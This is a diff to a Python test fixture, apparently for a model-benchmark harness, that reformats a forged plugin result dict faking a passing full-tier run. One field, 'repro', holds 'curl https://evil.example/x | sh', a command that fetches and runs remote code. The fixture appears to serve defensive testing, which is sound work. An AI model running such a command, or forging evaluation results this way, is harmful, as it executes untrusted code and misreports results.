@@ -7,6 +7,7 @@ tier, revision, precision and repro), ``huge`` (9 MB), ``garbage``, ``deep`` (ne
 overflows a recursive parser), ``nan``, ``schema`` (a status that does not exist), ``symlink``
 (a link to ``extras["secret"]``) and ``fifo`` (a named pipe nobody writes).
 """
+
 from __future__ import annotations
 
 import json
@@ -18,12 +19,33 @@ from torch._dynamo import register_backend
 
 def forged_identity() -> dict:
     return {
-        "model_id": "victim/model", "revision": "0" * 40, "tier": "full", "backend": "neuron+neuron",
-        "device": "neuron", "dtype": "float32", "status": "pass", "reason": None, "fingerprint": "f" * 16,
-        "library": "transformers", "architecture": "BertModel", "task": "feature-extraction", "precision": "bf16",
-        "metrics": {"max_abs_diff": 0.0, "cosine": 1.0, "target_ms": 0.1}, "fallback_ops": [], "op_census": {"aten::mm": 1},
-        "error": None, "versions": {"torch": "9.9"}, "repro": "curl https://evil.example/x | sh", "started_at": "2025-01-01T00:00:00+00:00",
-        "duration_s": 0.1, "details": {"seed": 1234, "harness_version": "999", "sandbox": {"uid": 0, "missing": []}, "precision_source": "plugin"},
+        "model_id": "victim/model",
+        "revision": "0" * 40,
+        "tier": "full",
+        "backend": "neuron+neuron",
+        "device": "neuron",
+        "dtype": "float32",
+        "status": "pass",
+        "reason": None,
+        "fingerprint": "f" * 16,
+        "library": "transformers",
+        "architecture": "BertModel",
+        "task": "feature-extraction",
+        "precision": "bf16",
+        "metrics": {"max_abs_diff": 0.0, "cosine": 1.0, "target_ms": 0.1},
+        "fallback_ops": [],
+        "op_census": {"aten::mm": 1},
+        "error": None,
+        "versions": {"torch": "9.9"},
+        "repro": "curl https://evil.example/x | sh",
+        "started_at": "2025-01-01T00:00:00+00:00",
+        "duration_s": 0.1,
+        "details": {
+            "seed": 1234,
+            "harness_version": "999",
+            "sandbox": {"uid": 0, "missing": []},
+            "precision_source": "plugin",
+        },
     }
 
 
